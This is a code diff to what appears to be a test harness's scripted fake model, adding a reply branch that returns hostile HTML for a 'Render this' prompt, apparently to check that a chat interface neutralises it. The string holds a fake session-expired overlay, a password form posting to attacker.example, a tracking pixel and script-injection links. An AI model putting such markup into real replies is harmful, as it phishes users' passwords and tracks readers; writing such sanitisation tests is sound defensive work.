@@ -74,8 +74,21 @@ def grounding(prompt: str) -> str:
     return "```json\n" + json.dumps(boxes) + "\n```"
 
 
+# Markup a reply (or a user) might write to take over the page: a full-page layer with a fake sign-in link, a
+# form, a remote image that reports who read it, a script in an error handler and a javascript: link.
+HOSTILE = ('<div id="overlay" style="position:fixed;inset:0;background:#d33;z-index:99999">Your session expired: '
+           '<a href="https://attacker.example/login">sign in again</a></div>\n\n'
+           '<form action="https://attacker.example/steal"><input id="password" name="password">'
+           '<button>Sign in</button></form>\n\n'
+           '![chart](https://attacker.example/pixel.png?who=reader)\n\n'
+           '<img src="nowhere.png" onerror="window.__pwned = 1">\n\n'
+           '<a id="js-link" href="javascript:window.__pwned = 2">details</a>')
+
+
 def reply(prompt: str, sampling: Sampling) -> str:
     """What the scripted model writes, by what it is asked."""
+    if "Render this" in prompt:
+        return "Here it is.\n\n" + HOSTILE.replace('id="', 'id="bot-')
     if "<|vision_start|>" in prompt:
         return grounding(prompt) if "Locate every" in prompt else DESCRIPTION
     if "<|fim_middle|>" in prompt:
